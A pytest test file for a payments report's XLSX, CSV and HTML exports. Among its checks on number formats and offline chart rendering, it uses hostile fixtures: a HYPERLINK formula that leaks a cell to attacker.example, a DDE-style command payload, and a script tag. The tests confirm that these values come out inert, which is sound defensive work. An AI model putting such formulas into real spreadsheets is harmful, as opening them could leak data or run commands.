"""The report's three files: XLSX and CSV cells (numbers, dates, inert text) and the HTML in a real browser."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime, timedelta, timezone
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from bson import ObjectId

from metrics import db as dbmod
from reports.model import build_report
from reports.periods import parse_week
from reports.render_csv import render_csv_zip
from reports.render_html import render_html
from reports.render_xlsx import render_xlsx
from reports.tabular import neutralise

BERLIN = ZoneInfo("Europe/Berlin")
WEEK = "2026-W47"  # Monday 16 November 2026 00:00 Berlin = 2026-11-15T23:00Z

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE = {
    "customerEmail": HYPERLINK,
    "failureMessage": AT_SUM,
    "failureCode": "+cmd_code",
    "specialistId": "-2+3",
}


def _payment(when: datetime, status: str, amount: int, currency: str = "usd", **fields) -> dict:
    doc = {"_id": ObjectId(), "paymentId": f"pi_{ObjectId()}", "amount": amount, "currency": currency,
           "status": status, "customerId": "cus_1", "customerEmail": "jane.doe@example.com",
           "specialistId": "spec-ana-lima", "serviceId": "svc-1", "createdAt": when}
    if status in ("completed", "refunded"):
        doc["completedAt"] = when + timedelta(milliseconds=1500)
    if status == "failed":
        doc.update(failureCode="card_declined", failureMessage="Your card was declined.")
    doc.update(fields)
    return doc


@pytest.fixture
def report_of(make_settings, platform_db):
    """Build the report for 2026-W47 over a few hand-written payments (and any extra ones)."""

    def build(extra: list[dict] = (), **overrides):
        monday = datetime(2026, 11, 16, 9, 0, tzinfo=BERLIN).astimezone(timezone.utc)
        docs = [
            _payment(monday, "completed", 12_900),
            _payment(monday + timedelta(hours=5), "completed", 4_900, "eur"),
            _payment(monday + timedelta(days=1), "failed", 7_900),
            _payment(monday + timedelta(days=2, hours=10), "refunded", 2_500, refundedAt=monday + timedelta(days=3)),
            _payment(monday - timedelta(days=7), "completed", 10_000),  # the week before
            *extra,
        ]
        platform_db["payments"].insert_many(docs)
        settings = make_settings(timezone="Europe/Berlin", currencies="usd,eur", **overrides)
        return build_report(dbmod.source(settings), settings, parse_week(WEEK, BERLIN), state=dbmod.state_db(settings))

    return build


# -- neutralise -----------------------------------------------------------------------

@pytest.mark.parametrize("text", ["=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK])
def test_text_that_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [-12.5, -3, 0, 1234, 0.975, None, "plain text", "a=b", "jane@example.com"])
def test_numbers_and_harmless_text_are_left_as_they_are(value):
    assert neutralise(value) == value


# -- XLSX -----------------------------------------------------------------------------

def _sheet_rows(sheet, header_text: str) -> tuple[list[str], list[list]]:
    """The header row whose first cell is ``header_text`` and the rows under it."""
    rows = list(sheet.iter_rows())
    top = next(i for i, row in enumerate(rows) if row[0].value == header_text)
    header = [c.value for c in rows[top] if c.value is not None]
    return header, [row[: len(header)] for row in rows[top + 1:] if row[0].value is not None]


def test_the_workbook_has_a_summary_sheet_first_and_one_sheet_per_table(report_of, tmp_path):
    report = report_of()
    path = tmp_path / "report.xlsx"
    path.write_bytes(render_xlsx(report))
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Summary"] + [t.key for t in report.tables()]
    assert book["Summary"]["A1"].value == report.title


def test_figures_and_table_numbers_are_numeric_cells_with_number_formats(report_of, tmp_path):
    report = report_of()
    path = tmp_path / "report.xlsx"
    path.write_bytes(render_xlsx(report))
    book = openpyxl.load_workbook(path)

    header, rows = _sheet_rows(book["Summary"], "Section")
    by_metric = {row[1].value: row for row in rows}
    value_col = header.index("2026-W47")
    succeeded = by_metric["Payments succeeded"][value_col]
    assert succeeded.data_type == "n" and succeeded.value == report.figure("payments.succeeded").value == 3
    rate = by_metric["Payment success rate"][value_col]
    assert rate.data_type == "n" and rate.value == pytest.approx(0.75) and rate.number_format == "0.00%"
    revenue = by_metric["Revenue (USD)"][value_col]
    assert revenue.value == pytest.approx(154.00) and "USD" in revenue.number_format

    header, rows = _sheet_rows(book["payments_by_day"], "Day")
    day = rows[0][0]
    assert day.is_date and day.value == datetime(2026, 11, 16)  # local midnight, naive: Excel has no zones
    counts = [row[header.index("Succeeded")] for row in rows]
    assert all(c.data_type == "n" and c.number_format == "#,##0" for c in counts)
    assert sum(c.value for c in counts) == 3
    money = rows[0][header.index("Revenue USD")]
    assert money.data_type == "n" and money.value == pytest.approx(129.00)


def test_times_in_the_workbook_are_local_times_of_the_configured_zone(report_of, tmp_path):
    report = report_of()
    path = tmp_path / "report.xlsx"
    path.write_bytes(render_xlsx(report))
    header, rows = _sheet_rows(openpyxl.load_workbook(path)["largest_failed"], "Created (Europe/Berlin)")
    assert rows[0][0].value == datetime(2026, 11, 17, 9, 0)  # 08:00 UTC in Berlin winter time


# -- CSV ------------------------------------------------------------------------------

def _csv_files(data: bytes) -> dict[str, list[list[str]]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name.rsplit("/", 1)[-1]: list(csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))))
                for name in archive.namelist() if name.endswith(".csv")}


def test_the_zip_holds_the_summary_and_the_same_tables_as_the_workbook(report_of):
    report = report_of()
    files = _csv_files(render_csv_zip(report))
    assert set(files) == {"summary.csv"} | {f"{t.key}.csv" for t in report.tables()}
    header, *rows = files["payments_by_day.csv"]
    assert header[0] == "Day" and rows[0][0] == "2026-11-16"
    assert sum(int(r[header.index("Succeeded")]) for r in rows) == 3
    assert float(rows[0][header.index("Revenue USD")]) == pytest.approx(129.00)


# -- formula injection ------------------------------------------------------------------------

@pytest.mark.parametrize("mask", [True, False])
def test_customer_fields_holding_formulas_come_out_inert_in_csv_and_xlsx(report_of, tmp_path, mask):
    monday = datetime(2026, 11, 16, 12, 0, tzinfo=timezone.utc)
    report = report_of([_payment(monday, "failed", 99_900, **HOSTILE)], mask_emails=mask)
    row = next(r for r in report.table("largest_failed").rows if r["amount"] == 99_900)
    assert row["failureMessage"] == AT_SUM  # the model keeps the data as it is; the files neutralise it

    files = _csv_files(render_csv_zip(report))
    header, *rows = files["largest_failed.csv"]
    hostile = next(r for r in rows if r[header.index("Payment")] == row["paymentId"])
    for column in ("Customer", "Message", "Decline code", "Specialist"):
        assert hostile[header.index(column)].startswith("'"), column
    assert hostile[header.index("Message")] == "'" + AT_SUM
    if not mask:
        assert hostile[header.index("Customer")] == "'" + HYPERLINK
    assert float(hostile[header.index("Amount")]) == pytest.approx(999.00)  # a real number stays a number
    codes = dict((r[0], r[1]) for r in files["failures_by_decline_code.csv"][1:])
    assert "'+cmd_code" in codes

    path = tmp_path / "report.xlsx"
    path.write_bytes(render_xlsx(report))
    sheet = openpyxl.load_workbook(path)["largest_failed"]
    header, rows = _sheet_rows(sheet, "Created (Europe/Berlin)")
    hostile = next(r for r in rows if r[header.index("Payment")].value == row["paymentId"])
    for column in ("Customer", "Message", "Decline code", "Specialist"):
        cell = hostile[header.index(column)]
        assert cell.data_type == "s" and cell.value.startswith("'"), column
    amount = hostile[header.index("Amount")]
    assert amount.data_type == "n" and amount.value == pytest.approx(999.00)
    formulas = [c.coordinate for ws in openpyxl.load_workbook(path).worksheets for r in ws.iter_rows() for c in r
                if c.data_type == "f"]
    assert formulas == []


# -- HTML -----------------------------------------------------------------------------------

def test_the_html_carries_plotly_js_once_and_escapes_platform_text(report_of):
    script = "<script>alert('x')</script>"
    monday = datetime(2026, 11, 16, 12, 0, tzinfo=timezone.utc)
    html = render_html(report_of([_payment(monday, "failed", 5_000, failureMessage=script)])).decode("utf-8")
    assert html.count("* plotly.js v") == 1
    assert "<script src=" not in html and "<link" not in html  # nothing loaded from elsewhere
    assert script not in html and "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;" in html
    assert "@media print" in html


@pytest.mark.browser
def test_the_html_opens_offline_in_chromium_with_its_charts_drawn(report_of, tmp_path):
    from playwright.sync_api import sync_playwright

    from browser.chromium import launch

    report = report_of()
    path = tmp_path / "report.html"
    path.write_bytes(render_html(report))
    requested, errors = [], []
    with sync_playwright() as p:
        browser = launch(p)
        try:
            page = browser.new_page(viewport={"width": 1200, "height": 900})
            page.on("request", lambda request: requested.append(request.url))
            page.on("pageerror", lambda error: errors.append(str(error)))
            page.goto(path.as_uri())
            page.wait_for_selector(".plotly .main-svg", timeout=30_000)
            drawn = page.locator(".js-plotly-plot").count()
            bars = page.locator(".js-plotly-plot .barlayer .point").count()
            title = page.title()
            page.emulate_media(media="print")
            summary_visible = page.locator("#summary").is_visible()
        finally:
            browser.close()
    assert drawn == html_chart_count(path.read_text()) and drawn >= 6
    assert bars > 0  # the bars are there, not only empty axes
    assert errors == []
    assert all(url.startswith("file:") for url in requested), requested  # nothing from the network
    assert title == report.title and summary_visible


def html_chart_count(html: str) -> int:
    return html.count('class="plotly-graph-div"')
